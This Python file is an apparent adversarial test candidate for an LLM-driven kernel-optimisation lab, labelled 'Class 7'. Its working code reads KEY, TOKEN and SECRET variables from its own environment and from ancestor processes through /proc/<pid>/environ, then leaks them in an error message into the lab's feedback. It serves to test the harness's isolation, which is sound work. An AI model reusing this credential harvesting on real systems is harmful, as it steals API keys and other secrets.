"""Class 7: the candidate's process inherits the lab's environment, where the LLM
proposer's API key lives (WANKA_LLM_API_KEY / OPENAI_API_KEY), and can read its ancestors'
/proc/<pid>/environ too. It fails with every key-like variable it finds in the message.
Success: the key shows up in the Feedback."""

import os

from wanka.lab.tasks.rmsnorm import reference


def _key_like(env: dict) -> dict:
    return {k: v for k, v in env.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET"))}


_found = _key_like(dict(os.environ))
_pid = os.getpid()
while _pid > 1:
    try:
        with open(f"/proc/{_pid}/status") as _f:
            _pid = int(_f.read().split("PPid:")[1].split()[0])
        with open(f"/proc/{_pid}/environ", "rb") as _f:
            _env = dict(
                kv.decode(errors="replace").partition("=")[::2]
                for kv in _f.read().split(b"\0")
                if kv
            )
    except (OSError, IndexError, ValueError):
        break
    _found.update(_key_like(_env))


def kernel(x, weight, eps):
    if _found:
        raise RuntimeError(f"environment not as expected: {_found}")
    return reference(x, weight, eps)
